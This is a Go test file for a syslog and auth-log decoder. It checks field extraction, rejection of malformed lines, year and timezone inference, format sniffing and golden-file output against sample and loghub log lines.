			want{kind: auth, dataset: "dovecot", action: "mail_auth", outcome: fail, host: "mx1", process: "dovecot", user: "admin", sourceIP: "203.0.113.50"}},

		// --- others from loghub Linux_2k.log ---
		{"ftpd", "Jun 17 07:07:00 combo ftpd[29504]: connection from 24.54.76.216 (24-54-76-216.bflony.adelphia.net) at Fri Jun 17 07:07:00 2005 ",
			want{kind: auth, dataset: "ftpd", action: "ftp_connection", host: "combo", process: "ftpd", pid: 29504, sourceIP: "24.54.76.216", extra: map[string]string{"source.domain": "24-54-76-216.bflony.adelphia.net"}}},
		{"root login", "Jul  7 08:06:15 combo login(pam_unix)[2421]: session opened for user root by LOGIN(uid=0)",
			want{kind: auth, dataset: "login", action: "session_opened", outcome: ok, host: "combo", process: "login", pid: 2421, user: "root"}},
		{"kernel", "Jun  9 06:06:20 combo kernel: Linux version 2.6.9-1.667 (bhcompile@bugs.build.redhat.com) (gcc version 3.4.2 20041017 (Red Hat 3.4.2-6.fc3)) #1 Tue Nov 2 14:41:25 EST 2004",
			want{kind: sys, dataset: "kernel", host: "combo", process: "kernel"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := NewDecoder(format.Options{RefTime: ref2025})
			got := decodeOne(t, d, tt.line)
			check(t, tt.line, got, tt.want)
		})
	}
}

func TestRaw(t *testing.T) {
	for _, line := range []string{
		"",
		"hello world",
		"type=SYSCALL msg=audit(1716087164.123:456): arch=c000003e syscall=59",
		`{"time":"2025-05-19T03:12:44Z","msg":"x"}`,
		"Foo 19 03:12:44 host prog: not a month",
		"May 32 03:12:44 host prog: no such day",
		"May 19 25:12:44 host prog: no such hour",
		"<999>May 19 03:12:44 host prog: PRI out of range",
		"<34>1 notatime host app - - - msg",
		"2025-05-19T03:12:44Z",
		"May 19 03:12:44",
	} {
		d := NewDecoder(format.Options{RefTime: ref2025})
		got := decodeOne(t, d, line)
		if got.Kind != event.KindRaw {
			t.Errorf("%q: Kind = %v, want raw", line, got.Kind)
		}
	}
}

func TestYear(t *testing.T) {
	tests := []struct {
		ref  time.Time
		loc  *time.Location
		line string
		want string
	}{
		// A December line in a file last written in January belongs to the year before.
		{time.Date(2025, 1, 3, 10, 0, 0, 0, time.UTC), nil, "Dec 31 23:59:59 h p: x", "2024-12-31T23:59:59Z"},
		{time.Date(2025, 1, 3, 10, 0, 0, 0, time.UTC), nil, "Jan  3 09:00:00 h p: x", "2025-01-03T09:00:00Z"},
		// A day of slack: clocks and mtimes disagree a little.
		{time.Date(2025, 1, 3, 10, 0, 0, 0, time.UTC), nil, "Jan  4 09:00:00 h p: x", "2025-01-04T09:00:00Z"},
		{time.Date(2025, 1, 3, 10, 0, 0, 0, time.UTC), nil, "Jan  5 09:00:00 h p: x", "2024-01-05T09:00:00Z"},
		// Feb 29 goes to the latest leap year.
		{time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC), nil, "Feb 29 12:00:00 h p: x", "2024-02-29T12:00:00Z"},
		// Zone: Tokyo is UTC+9.
		{time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC), time.FixedZone("JST", 9*3600), "May 19 09:00:00 h p: x", "2025-05-19T00:00:00Z"},
		// A zone in the stamp wins over Options.Location.
		{time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC), time.FixedZone("JST", 9*3600), "2025-05-19T09:00:00+09:00 h p: x", "2025-05-19T00:00:00Z"},
		// journald short-iso: offset without a colon.
		{time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC), nil, "2025-05-19T09:00:00+0900 h p: x", "2025-05-19T00:00:00Z"},
	}
	for _, tt := range tests {
		d := NewDecoder(format.Options{RefTime: tt.ref, Location: tt.loc})
		// Decode twice: the second answer comes from the stamp cache.
		for i := 0; i < 2; i++ {
			got := decodeOne(t, d, tt.line)
			if s := got.Time.Format(time.RFC3339); s != tt.want {
				t.Errorf("ref %v %q: %s, want %s", tt.ref, tt.line, s, tt.want)
			}
		}
	}
}

func TestSniff(t *testing.T) {
	auth := []string{
		"Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster from 173.234.31.186",
		"May 19 03:12:44 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id",
		"2025-05-19T05:12:44.003861+02:00 web1 sshd-session[4242]: Accepted publickey for deploy from 203.0.113.9 port 51234 ssh2",
	}
	rfc5424 := []string{
		"<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 - 'su root' failed for lonvick on /dev/pts/8",
		`<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 [exampleSDID@32473 iut="3"] An application event log entry...`,
	}
	access := []string{`203.0.113.9 - - [19/May/2025:03:12:44 +0000] "GET / HTTP/1.1" 200 612 "-" "curl/8.5.0"`}
	f3164, _ := format.Lookup("syslog")
	f5424, _ := format.Lookup("syslog.5424")
	if got := f3164.Sniff(auth); got != 100 {
		t.Errorf("syslog sniff of auth.log = %d", got)
	}
	if got := f5424.Sniff(auth); got != 0 {
		t.Errorf("syslog.5424 sniff of auth.log = %d", got)
	}
	if got := f5424.Sniff(rfc5424); got != 100 {
		t.Errorf("syslog.5424 sniff of 5424 = %d", got)
	}
	if got := f3164.Sniff(rfc5424); got != 0 {
		t.Errorf("syslog sniff of 5424 = %d", got)
	}
	if a, b := f3164.Sniff(access), f5424.Sniff(access); a != 0 || b != 0 {
		t.Errorf("sniff of an access log = %d, %d", a, b)
	}
}

// TestLoghub decodes the loghub samples (real auth and messages logs, cited
// in ../shared/data/loghub): at least 99.5% of lines must be structured, and
// the sshd vocabulary must cover the OpenSSH sample.
func TestLoghub(t *testing.T) {
	for _, tc := range []struct {
		file          string
		minSSHActions int
	}{
		{"loghub/OpenSSH/OpenSSH_2k.log", 1999},
		{"loghub/Linux/Linux_2k.log", 677},
	} {
		t.Run(tc.file, func(t *testing.T) {
			lines := formattest.ReadLines(t, shareddata.Path(t, tc.file))
			d := NewDecoder(format.Options{RefTime: time.Date(2006, 1, 1, 0, 0, 0, 0, time.UTC)})
			var raw, sshd, sshdAction int
			actions := map[string]int{}
			var unacted []string
			for i, l := range lines {
				d.Decode(l, event.Ref{Line: int64(i + 1)}, func(ev *event.Event) {
					if ev.Kind == event.KindRaw {
						raw++
						t.Logf("raw line %d: %q", i+1, l)
					}
					if ev.Dataset == "sshd" {
						sshd++
						if ev.Action != "" {
							sshdAction++
						} else if len(unacted) < 5 {
							unacted = append(unacted, ev.Message)
						}
					}
					actions[ev.Action]++
				})
			}
			structured := float64(len(lines)-raw) / float64(len(lines))
			t.Logf("%d lines, %.2f%% structured; sshd lines %d, with an Action %d; not understood: %q", len(lines), 100*structured, sshd, sshdAction, unacted)
			t.Logf("actions: %v", actions)
			if structured < 0.995 {
				t.Errorf("%.2f%% structured, want >= 99.5%%", 100*structured)
			}
			if sshdAction < tc.minSSHActions {
				t.Errorf("%d sshd lines with an Action, want >= %d", sshdAction, tc.minSSHActions)
			}
		})
	}
}

var update = flag.Bool("update", false, "rewrite golden files")

// TestGolden decodes testdata/auth.log (hand-written from the samples cited
// in the table above, one per program) and compares every field with
// testdata/auth.golden.
func TestGolden(t *testing.T) {
	lines := formattest.ReadLines(t, filepath.Join("testdata", "auth.log"))
	d := NewDecoder(format.Options{RefTime: ref2025})
	var b strings.Builder
	for i, l := range lines {
		d.Decode(l, event.Ref{Line: int64(i + 1)}, func(ev *event.Event) {
			formattest.Dump(&b, ev)
		})
	}
	golden := filepath.Join("testdata", "auth.golden")
	formattest.Golden(t, golden, []byte(b.String()), *update)
}
